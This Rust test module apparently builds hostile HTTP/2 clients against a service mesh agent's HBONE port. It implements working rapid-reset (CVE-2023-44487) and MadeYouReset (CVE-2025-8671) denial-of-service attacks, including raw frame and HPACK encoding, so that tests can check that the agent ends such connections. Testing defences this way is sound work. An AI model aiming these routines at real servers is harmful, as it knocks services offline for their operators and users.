//! Hostile HBONE clients, for tests: what a peer holding a valid workload certificate can send
//! to a port 15008 beyond anything a well-behaved pool does. Each attack returns how the agent
//! ended the connection.

use std::io;
use std::net::SocketAddr;

use ferrule_identity::{SharedBundle, SpiffeId};
use h2::Reason;
use http::{Method, Request};
use rustls_pki_types::ServerName;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio_rustls::client::TlsStream;

use super::TunnelKey;
use super::outbound::dial::connector;
use crate::identity::WorkloadCert;

/// How the agent ended a hostile connection.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Ended {
    /// The error code of the agent's GOAWAY, if one came.
    pub goaway: Option<Reason>,
    /// Streams opened (and reset) before that.
    pub streams: usize,
}

/// Mutual TLS over `tcp` (already connected to an HBONE port) as `source`, expecting `server`.
pub async fn tls(
    tcp: TcpStream,
    source: &WorkloadCert,
    bundle: &SharedBundle,
    server: &SpiffeId,
) -> io::Result<TlsStream<TcpStream>> {
    let address = tcp.peer_addr()?;
    let key = TunnelKey {
        source: source.id.clone(),
        destination: server.clone(),
        address,
    };
    connector(&key, source, bundle)
        .connect(ServerName::from(address.ip()), tcp)
        .await
}

/// HTTP/2 rapid reset (CVE-2023-44487) paced, with the h2 client: up to `streams` CONNECTs to
/// `authority`, each cancelled right after it went out, so that the server has usually
/// accepted it already. The server cuts the connection mid-write, so its GOAWAY is often lost
/// to the client: `streams` tells how far the attack got.
pub async fn paced_rapid_reset(
    tls: TlsStream<TcpStream>,
    authority: SocketAddr,
    streams: usize,
) -> Result<Ended, h2::Error> {
    let (client, conn) = h2::client::handshake(tls).await?;
    let conn = tokio::spawn(conn);
    let mut client = Some(client);
    let mut sent = 0;
    while let Some(idle) = client.take()
        && sent < streams
    {
        // Fails once the server sent GOAWAY.
        let Ok(mut ready) = idle.ready().await else {
            break;
        };
        let Ok((_response, mut stream)) = ready.send_request(connect(authority), false) else {
            break;
        };
        // h2 forgets a stream reset before its HEADERS went out: let the connection task send
        // them first, as an attacker's HEADERS always reach the server.
        tokio::task::yield_now().await;
        stream.send_reset(Reason::CANCEL);
        client = Some(ready);
        sent += 1;
    }
    // Stay connected for the server's verdict: it may come after the last stream was sent.
    let ended = match tokio::time::timeout(VERDICT_WAIT, conn).await {
        Ok(ended) => ended.expect("the h2 connection task panicked"),
        Err(_) => Ok(()),
    };
    drop(client);
    Ok(Ended {
        goaway: ended
            .err()
            .filter(h2::Error::is_go_away)
            .and_then(|e| e.reason()),
        streams: sent,
    })
}

/// How long an attack waits for the server's GOAWAY after its last frame.
const VERDICT_WAIT: std::time::Duration = std::time::Duration::from_secs(5);

fn connect(authority: SocketAddr) -> Request<()> {
    Request::builder()
        .method(Method::CONNECT)
        .uri(authority.to_string())
        .body(())
        .expect("a valid CONNECT request")
}

/// HTTP/2 rapid reset (CVE-2023-44487) as raw frames: `streams` CONNECTs, each followed at once
/// by its RST_STREAM, all in one burst. Reads until the server's GOAWAY or EOF.
pub async fn rapid_reset(
    tls: TlsStream<TcpStream>,
    authority: SocketAddr,
    streams: u32,
) -> io::Result<Ended> {
    let cancel = u32::from(Reason::CANCEL).to_be_bytes();
    burst(tls, authority, streams, |out, stream| {
        frame(out, RST_STREAM, 0, stream, &cancel)
    })
    .await
}

/// MadeYouReset (CVE-2025-8671) with raw frames, since no HTTP/2 library sends invalid ones:
/// `streams` CONNECTs, each followed by a WINDOW_UPDATE that overflows the stream's send window,
/// a flow-control error that makes the server reset the stream itself. Reads until the server's GOAWAY or EOF.
pub async fn made_you_reset(
    tls: TlsStream<TcpStream>,
    authority: SocketAddr,
    streams: u32,
) -> io::Result<Ended> {
    burst(tls, authority, streams, |out, stream| {
        frame(out, WINDOW_UPDATE, 0, stream, &MAX_WINDOW.to_be_bytes())
    })
    .await
}

/// The preface, then `streams` CONNECTs each followed by what `then` adds, in one write; then
/// the server's answer. Keep it small enough for the socket buffers: a server that closes with
/// unread data resets the connection, and the reset may destroy its GOAWAY before it is read.
async fn burst(
    mut tls: TlsStream<TcpStream>,
    authority: SocketAddr,
    streams: u32,
    then: impl Fn(&mut Vec<u8>, u32),
) -> io::Result<Ended> {
    let mut out = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
    frame(&mut out, SETTINGS, 0, 0, &[]);
    let headers = connect_headers(authority);
    for n in 0..streams {
        let stream = 2 * n + 1;
        frame(&mut out, HEADERS, END_HEADERS, stream, &headers);
        then(&mut out, stream);
    }
    // The server may close mid-write once it has had enough.
    let _ = tls.write_all(&out).await;
    let _ = tls.flush().await;
    let goaway = read_goaway(&mut tls).await?;
    Ok(Ended {
        goaway,
        streams: streams as usize,
    })
}

const HEADERS: u8 = 0x1;
const RST_STREAM: u8 = 0x3;
const SETTINGS: u8 = 0x4;
const GOAWAY: u8 = 0x7;
const WINDOW_UPDATE: u8 = 0x8;
const END_HEADERS: u8 = 0x4;
/// 2^31 - 1: added to any open stream's window, it exceeds the largest window allowed.
const MAX_WINDOW: u32 = 0x7fff_ffff;

fn frame(out: &mut Vec<u8>, kind: u8, flags: u8, stream: u32, payload: &[u8]) {
    let len = u32::try_from(payload.len()).expect("small frame");
    out.extend_from_slice(&len.to_be_bytes()[1..]);
    out.extend_from_slice(&[kind, flags]);
    out.extend_from_slice(&stream.to_be_bytes());
    out.extend_from_slice(payload);
}

/// `:method CONNECT` and `:authority`, HPACK literals without indexing (names from the static
/// table: 2 is `:method`, 1 is `:authority`), no Huffman coding.
fn connect_headers(authority: SocketAddr) -> Vec<u8> {
    let mut block = Vec::new();
    for (name_index, value) in [(2u8, "CONNECT".to_owned()), (1, authority.to_string())] {
        block.push(name_index);
        block.push(u8::try_from(value.len()).expect("short header value"));
        block.extend_from_slice(value.as_bytes());
    }
    block
}

/// Frames from the server until a GOAWAY (its error code) or the end of the connection.
async fn read_goaway(tls: &mut TlsStream<TcpStream>) -> io::Result<Option<Reason>> {
    let mut head = [0u8; 9];
    loop {
        match tls.read_exact(&mut head).await {
            Ok(_) => {}
            Err(e) if is_end(&e) => return Ok(None),
            Err(e) => return Err(e),
        }
        let len = u32::from_be_bytes([0, head[0], head[1], head[2]]) as usize;
        let mut payload = vec![0u8; len];
        match tls.read_exact(&mut payload).await {
            Ok(_) => {}
            Err(e) if is_end(&e) => return Ok(None),
            Err(e) => return Err(e),
        }
        if head[3] == GOAWAY && len >= 8 {
            let code = u32::from_be_bytes([payload[4], payload[5], payload[6], payload[7]]);
            return Ok(Some(Reason::from(code)));
        }
    }
}

fn is_end(e: &io::Error) -> bool {
    matches!(
        e.kind(),
        io::ErrorKind::UnexpectedEof | io::ErrorKind::ConnectionReset
    )
}
